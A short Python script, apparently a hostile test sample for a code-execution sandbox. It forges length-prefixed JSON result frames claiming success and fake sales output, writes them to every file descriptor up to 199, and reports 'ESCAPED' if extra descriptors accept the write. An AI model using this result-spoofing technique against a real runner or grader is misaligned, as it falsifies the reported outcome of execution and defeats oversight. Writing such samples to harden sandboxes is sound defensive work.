import json
import os
import struct


def frame(number, exit_status=0):
    text = b"Total sales: 1\nAverage order value: 1\nTop selling product: Tea\n"
    header = {"id": number, "ok": True, "exit": exit_status, "signal": None, "timedOut": False, "flooded": False, "notStarted": None,
              "seconds": 0.1, "cpuSeconds": 0.1, "maxRssBytes": 1, "stdoutBytes": len(text), "bytes": len(text)}
    head = json.dumps(header).encode()
    return struct.pack(">I", len(head)) + head + text


FRAMES = b"".join(frame(number) for number in range(200))

written = []
for descriptor in range(1, 200):
    try:
        os.write(descriptor, FRAMES)
        written.append(descriptor)
    except OSError:
        pass
if [number for number in written if number > 2]:
    print("ESCAPED: descriptors", written)
print("attack ran")
